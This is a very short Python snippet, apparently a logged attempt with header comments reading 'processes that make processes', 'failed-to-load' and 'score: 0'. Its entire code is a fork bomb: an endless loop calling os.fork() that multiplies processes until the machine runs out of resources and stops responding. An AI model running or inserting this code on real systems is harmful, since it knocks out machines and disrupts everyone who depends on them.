# tries: processes that make processes
# status: failed-to-load
# score: 0
import os

while True:
    os.fork()
